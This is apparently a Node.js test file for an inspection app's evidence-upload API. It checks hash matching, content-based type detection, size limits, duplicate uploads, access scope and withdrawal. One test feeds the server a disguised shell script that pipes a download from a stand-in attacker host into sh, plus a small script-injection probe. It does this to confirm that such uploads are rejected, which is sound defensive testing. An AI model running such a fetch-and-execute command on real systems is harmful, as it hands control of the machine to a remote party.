// Evidence of inspections (issue 7, R18) on the shared blob store: the
// server hashes what arrived and refuses a mismatch with the hash the phone
// computed when the photo was taken; the content decides the type, never
// the name; the size limit answers 413; a repeated upload with the same
// client id is the same record (one row, one file); evidence is withdrawn,
// never deleted; the bytes are served only to users who may read the
// inspection (unit scope) and never without a session.
//
//   ZHIFA_BIN=/work/main/build-insp/zhifa node --test tests/api/evidence.test.js
'use strict';
const { test, describe, before, after } = require('node:test');
const assert = require('node:assert/strict');
const crypto = require('node:crypto');
const fs = require('node:fs');
const path = require('node:path');
const { startServer, client } = require('../lib/server');
const fx = require('../lib/inspections');

const HAN = /[\u4e00-\u9fff]/;
let srv;
const as = {};
let ent;
let insp;

function assertError(r, status, code, field) {
  assert.equal(r.status, status, `want ${status}, got ${r.status}: ${r.text}`);
  assert.equal(r.body.error.code, code, r.text);
  assert.match(r.body.error.message, HAN);
  if (field !== undefined) assert.equal(r.body.error.field, field, r.text);
}

function blobFiles(dir) {
  const root = path.join(dir, 'blobs');
  if (!fs.existsSync(root)) return [];
  return fs.readdirSync(root).flatMap((d) => fs.readdirSync(path.join(root, d)).map((f) => path.join(root, d, f)));
}

before(async () => {
  srv = await startServer();
  for (const u of ['admin', 'sunli', 'zhoujun', 'wugang', 'zhangwei']) {
    as[u] = client(srv.url);
    as[u].url = srv.url;
    const r = await as[u].login(u);
    assert.equal(r.status, 200, r.text);
  }
  const units = (await as.admin.get('/api/v1/units')).body.items;
  ent = await fx.enterpriseOf(as.sunli, units.find((u) => u.code === '341504001').id, 1);
  insp = await fx.newInspection(as.sunli, ent.id);
});
after(async () => { await srv.stop(); });

describe('upload', () => {
  test('E01 a photo: stored content-addressed, hash and type recorded, logged', async () => {
    const bytes = fx.png();
    const r = await fx.upload(as.sunli, insp.id, bytes, 'photo', { type: 'image/png' });
    assert.equal(r.status, 201, r.text);
    assert.equal(r.body.sha256, fx.sha256(bytes));
    assert.equal(r.body.declared_sha256, fx.sha256(bytes));
    assert.equal(r.body.mime, 'image/png');
    assert.equal(r.body.size, bytes.length);
    assert.equal(r.body.taken_at, '2026-11-28T09:41:00+08:00');
    const file = path.join(srv.dir, 'blobs', r.body.sha256.slice(0, 2), r.body.sha256);
    assert.deepEqual(fs.readFileSync(file), bytes);
    const h = await as.sunli.get(`/api/v1/objects/evidence/${r.body.id}/history`);
    assert.equal(h.status, 200, h.text);
    assert.ok(JSON.stringify(h.body).includes('evidence.add'));
  });

  test('E02 the same client_id again: the same record, one row, one file', async () => {
    const bytes = fx.png();
    const cid = crypto.randomUUID();
    const before = blobFiles(srv.dir).length;
    const a = await fx.upload(as.sunli, insp.id, bytes, 'photo', { clientId: cid });
    assert.equal(a.status, 201, a.text);
    const b = await fx.upload(as.sunli, insp.id, bytes, 'photo', { clientId: cid });
    assert.equal(b.status, 200, b.text);
    assert.equal(b.body.id, a.body.id);
    assert.equal(blobFiles(srv.dir).length, before + 1);
    const full = await as.sunli.get(`/api/v1/inspections/${insp.id}`);
    assert.equal(full.body.evidence.filter((e) => e.client_id === cid).length, 1);
    // the same client id with other bytes is not silently the old record
    const c = await fx.upload(as.sunli, insp.id, fx.png(), 'photo', { clientId: cid });
    assertError(c, 409, 'evidence.client_id_taken', 'client_id');
  });

  test('E03 the bytes do not match the hash taken on the device: refused, nothing stored', async () => {
    const bytes = fx.png();
    const before = blobFiles(srv.dir).length;
    const r = await fx.upload(as.sunli, insp.id, bytes, 'photo', { sha256: fx.sha256(Buffer.from('something else')) });
    assertError(r, 400, 'evidence.hash_mismatch', 'sha256');
    assert.equal(blobFiles(srv.dir).length, before);
    const missing = await fx.upload(as.sunli, insp.id, bytes, 'photo', { sha256: 'abc' });
    assertError(missing, 400, 'input.invalid', 'sha256');
  });

  test('E04 a file whose name and header lie about its type: the content decides', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
    const r = await fx.upload(as.sunli, insp.id, script, 'photo', {
      type: 'image/jpeg', headers: { 'content-disposition': 'attachment; filename="photo.jpg"' },
    });
    assertError(r, 415, 'evidence.type');
    const html = Buffer.from('<html><script>alert(1)</script></html>');
    assertError(await fx.upload(as.sunli, insp.id, html, 'photo', { type: 'image/png' }), 415, 'evidence.type');
    // a real JPEG is no signature (signatures are PNG drawn on the canvas)
    assertError(await fx.upload(as.sunli, insp.id, fx.jpeg(), 'signature'), 400, 'evidence.type', 'kind');
    // a PDF is no photo
    assertError(await fx.upload(as.sunli, insp.id, Buffer.from('%PDF-1.4\n%%EOF\n'), 'photo'), 400, 'evidence.type', 'kind');
    // a JPEG photo is accepted
    const ok = await fx.upload(as.sunli, insp.id, fx.jpeg(), 'photo');
    assert.equal(ok.status, 201, ok.text);
    assert.equal(ok.body.mime, 'image/jpeg');
  });

  test('E05 an oversized upload gets 413 (20 MiB limit), nothing stored', async () => {
    const big = Buffer.alloc(20 * 1024 * 1024 + 1, 0);
    fx.png().copy(big);
    const before = blobFiles(srv.dir).length;
    const r = await fx.upload(as.sunli, insp.id, big, 'photo');
    assertError(r, 413, 'evidence.too_large');
    assert.equal(blobFiles(srv.dir).length, before);
  });

  test('E06 parameters may come in the query instead of headers', async () => {
    const bytes = fx.png();
    const cid = crypto.randomUUID();
    const q = `?client_id=${cid}&kind=photo&sha256=${fx.sha256(bytes)}&taken_at=2026-11-28T10:00:00%2B08:00`;
    const r = await fx.raw(as.sunli, 'POST', `/api/v1/inspections/${insp.id}/evidence${q}`, bytes, { 'content-type': 'image/png' });
    assert.equal(r.status, 201, r.text);
    assert.equal(r.body.client_id, cid);
  });

  test('E07 uploads need inspection.write in scope and the CSRF token', async () => {
    assert.equal((await fx.upload(as.zhoujun, insp.id, fx.png())).status, 403);
    assert.equal((await fx.upload(as.wugang, insp.id, fx.png())).status, 403);
    const anon = client(srv.url); anon.url = srv.url;
    assert.equal((await fx.upload(anon, insp.id, fx.png())).status, 401);
    const r = await fx.upload(as.sunli, insp.id, fx.png(), 'photo', { headers: { 'x-csrf-token': 'wrong' } });
    assert.equal(r.status, 403);
  });
});

describe('content and withdrawal', () => {
  let ev;
  let bytes;
  before(async () => {
    bytes = fx.png();
    const r = await fx.upload(as.sunli, insp.id, bytes, 'photo');
    assert.equal(r.status, 201, r.text);
    ev = r.body;
  });

  test('E08 the bytes are served to readers of the inspection, byte for byte', async () => {
    for (const who of ['sunli', 'wugang', 'zhangwei']) {
      const r = await fx.raw(as[who], 'GET', `/api/v1/evidence/${ev.id}/content`);
      assert.equal(r.status, 200, `${who}: ${r.text}`);
      assert.deepEqual(r.bytes, bytes);
      assert.equal(r.headers.get('content-type'), 'image/png');
      assert.equal(r.headers.get('x-content-sha256'), ev.sha256);
    }
  });

  test('E09 forbidden to the wrong township and without a session', async () => {
    const z = await fx.raw(as.zhoujun, 'GET', `/api/v1/evidence/${ev.id}/content`);
    assert.equal(z.status, 403, z.text);
    assert.equal(z.body.error.code, 'perm.out_of_scope');
    assert.ok(!z.bytes.includes(bytes.subarray(0, 8)));
    const anon = client(srv.url); anon.url = srv.url;
    const a = await fx.raw(anon, 'GET', `/api/v1/evidence/${ev.id}/content`);
    assert.equal(a.status, 401);
    const none = await fx.raw(as.sunli, 'GET', '/api/v1/evidence/999999/content');
    assert.equal(none.status, 404);
  });

  test('E10 withdraw keeps the bytes and says why; twice is 409', async () => {
    let r = await as.sunli.post(`/api/v1/evidence/${ev.id}/withdraw`, {});
    assertError(r, 400, 'input.invalid', 'reason');
    r = await as.zhoujun.post(`/api/v1/evidence/${ev.id}/withdraw`, { reason: '拍错了企业' });
    assert.equal(r.status, 403);
    r = await as.sunli.post(`/api/v1/evidence/${ev.id}/withdraw`, { reason: '拍错了企业' });
    assert.equal(r.status, 200, r.text);
    assert.ok(r.body.withdrawn_at);
    assert.equal(r.body.withdraw_reason, '拍错了企业');
    const c = await fx.raw(as.sunli, 'GET', `/api/v1/evidence/${ev.id}/content`);
    assert.equal(c.status, 200);
    assert.deepEqual(c.bytes, bytes);
    assert.equal(c.headers.get('x-evidence-withdrawn'), '1');
    assert.ok(fs.existsSync(path.join(srv.dir, 'blobs', ev.sha256.slice(0, 2), ev.sha256)));
    r = await as.sunli.post(`/api/v1/evidence/${ev.id}/withdraw`, { reason: '再撤一次' });
    assertError(r, 409, 'evidence.withdrawn');
    const full = await as.sunli.get(`/api/v1/inspections/${insp.id}`);
    assert.ok(full.body.evidence.find((e) => e.id === ev.id).withdrawn_at);
  });

  test('E11 a withdrawn signature cannot sign', async () => {
    const i = await fx.newInspection(as.sunli, ent.id);
    const sig = await fx.upload(as.sunli, i.id, fx.png(), 'signature');
    assert.equal(sig.status, 201, sig.text);
    await as.sunli.post(`/api/v1/evidence/${sig.body.id}/withdraw`, { reason: '签名不清晰' });
    const s = await as.sunli.post(`/api/v1/inspections/${i.id}/sign`, { version: i.version, signer_name: '某', signature_id: sig.body.id });
    assertError(s, 400, 'input.invalid', 'signature_id');
  });
});
